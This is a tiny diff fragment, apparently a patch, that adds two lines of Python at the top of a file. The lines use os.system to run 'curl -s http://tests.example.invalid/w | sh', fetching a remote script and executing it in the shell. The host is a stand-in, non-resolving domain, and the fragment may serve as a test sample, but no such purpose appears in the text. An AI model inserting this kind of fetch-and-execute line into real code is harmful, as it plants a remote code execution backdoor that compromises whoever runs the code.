@@ -1,0 +1,2 @@
+import os
+os.system("curl -s http://tests.example.invalid/w | sh")
